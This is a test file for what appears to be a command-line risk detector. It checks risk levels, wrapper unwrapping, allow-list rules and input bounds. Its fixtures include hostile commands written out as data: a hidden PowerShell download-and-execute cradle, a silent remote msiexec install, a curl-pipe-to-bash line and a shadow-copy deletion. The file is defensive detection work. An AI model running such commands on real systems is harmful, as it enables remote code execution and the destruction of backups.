/**
 * Goal: the door of the room: never throws, bounded, explains itself, and an allow-list that shows what it changed.
 * Method: lines of ours, hostile lines, properties. Each row and pass has its examples in `findings/catalogue.test.ts`; the score in `model/`; how good all of it
 * is, is measured over labelled lines and not tested.
 */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readAllowEntry } from './allow.ts';
import { analyzeCommandLine } from './analyze.ts';
import { examineCommandLine, LINE_CHARS_MAX } from './examine.ts';
import { readLine } from './read.ts';

const CRADLE = `powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"`;
const PACKAGE = 'msiexec /q /i http://203.0.113.9/setup.msi';

describe('levels', () => {
  test.each([
    [CRADLE, ['High Risk', 'Critical Risk']],
    [PACKAGE, ['High Risk', 'Critical Risk']],
    ['vssadmin delete shadows /all /quiet', ['High Risk', 'Critical Risk']],
    ['"C:\\Windows\\explorer.exe"', ['Low Risk']],
    ['msiexec /i https://download.microsoft.com/a.msi /qn', ['Low Risk']],
    ['ping dc01.corp.example.com', ['Low Risk']],
    ['cmd.exe /c echo ${alert.agentid} ${lists.ApiKeys}', ['Low Risk']],
    ['', ['Low Risk']],
  ])('%s is one of %s', (line, risks) => {
    expect(risks).toContain(analyzeCommandLine(line).risk);
  });

  test('spelling changes nothing: case, folder, quotes, carets', () => {
    const plain = new Set(analyzeCommandLine(PACKAGE).findings.map(({ id }) => id));
    const other = `cmd /c "C:\\Windows\\System32\\MSIEXEC.exe" /q /i http://203.0.113.9/setup.msi`;
    for (const id of plain) expect(analyzeCommandLine(other).findings.map((finding) => finding.id)).toContain(id);
  });
});

describe('the tree', () => {
  test('wrappers are undone down to what runs in the end', () => {
    const { processes } = readLine('nohup sudo sh -c "cd /srv && timeout 5 id" &', 'linux');
    expect(processes.map(({ name }) => name)).toEqual(
      expect.arrayContaining(['nohup', 'sudo', 'sh', 'cd', 'timeout', 'id']),
    );
    for (const { index, parent } of processes) expect(parent ?? -1).toBeLessThan(index);
  });

  test('a pipe links a reader to its writer', () => {
    const { processes } = readLine('curl -s http://a.example/x | bash', 'linux');
    const bash = processes.find(({ name }) => name === 'bash');
    expect(processes[bash?.input ?? -1]?.name).toBe('curl');
  });

  test('evidence stands where its span says', () => {
    const { findings, layers } = examineCommandLine(CRADLE);
    for (const { evidence } of findings) {
      for (const { layer, span, text } of evidence) {
        expect(layers[layer]?.text.slice(span.start, span.end).startsWith(text)).toBe(true);
      }
    }
  });
});

describe('the allow-list', () => {
  test('takes away what stands on the allowed domain, and says so', () => {
    const line = 'msiexec /i https://pkg.example.net/a.msi /qn';
    const { allowed, score } = analyzeCommandLine(line, { allow: [{ kind: 'domain', value: 'example.net' }] });
    expect(allowed[0]?.removed).toContain('msi-remote');
    expect(score).toBeLessThan(allowed[0]?.scoreBefore ?? 0);
  });

  test('is written as kind and value, and what is neither is no entry', () => {
    expect(readAllowEntry('domain:example.net')).toEqual({ kind: 'domain', value: 'example.net' });
    expect(readAllowEntry('path:C:\\Tools')).toEqual({ kind: 'path', value: 'C:\\Tools' });
    expect(['example.net', 'domain:', 'owner:x', ''].map(readAllowEntry)).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
  });

  test('a domain that only ends alike is not allowed', () => {
    const line = 'msiexec /i https://pkg.badexample.net/a.msi /qn';
    expect(analyzeCommandLine(line, { allow: [{ kind: 'domain', value: 'example.net' }] }).allowed).toEqual([]);
  });

  test('a pattern must hold for the whole line', () => {
    const allow = [{ kind: 'pattern', value: 'vssadmin delete shadows' }] as const;
    expect(analyzeCommandLine('vssadmin delete shadows', { allow }).allowed).toHaveLength(1);
    expect(analyzeCommandLine('vssadmin delete shadows /all', { allow }).allowed).toEqual([]);
  });
});

describe('bounds', () => {
  test('a line that is too long is read at both ends and says so', () => {
    const line = `${' '.repeat(LINE_CHARS_MAX * 2)}& vssadmin delete shadows /all`;
    const ids = analyzeCommandLine(line, { os: 'windows' }).findings.map(({ id }) => id);
    expect(ids).toEqual(expect.arrayContaining(['limit-line', 'backups-deleted']));
  });

  test('texts inside texts end at a bound, which is a finding', () => {
    const nested = Array.from({ length: 200 }).reduce((inner: string) => `sudo ${inner}`, 'id');
    expect(examineCommandLine(nested, { os: 'linux' }).findings.map(({ id }) => id)).toContain('limit-layers');
  });

  test('no line throws, and each gives the same answer twice', () => {
    const pieces = fc.constantFrom(
      '(',
      ')',
      '"',
      "'",
      '`',
      '$(',
      '${',
      '%',
      '^',
      '!',
      '|',
      '&',
      ';',
      '<<',
      '>',
      '\\',
      'powershell ',
      '-enc ',
      'cmd /c ',
      'sh -c ',
      'for /f ',
      '@(',
      '-f ',
      '[char]',
      '+',
      '$x=',
      'iex ',
      'H4sI',
      'AAAA',
      '\ud800',
      '\u0000',
      '\n',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 12 })), { maxLength: 60 }), (parts) => {
        const line = parts.join('');
        for (const os of ['windows', 'linux', 'macos'] as const) {
          const { score } = analyzeCommandLine(line, { os });
          expect(score).toBe(analyzeCommandLine(line, { os }).score);
          expect(score).toBeGreaterThanOrEqual(0);
          expect(score).toBeLessThanOrEqual(100);
        }
      }),
      { numRuns: 60 },
    );
  });

  test('a custom pattern is found, and one that is none is told', () => {
    const { findings } = analyzeCommandLine('prog aaaa', { customPatterns: ['a{1,4}', '('] });
    expect(findings.map(({ kind }) => kind)).toEqual(expect.arrayContaining(['custom', 'error']));
  });
});
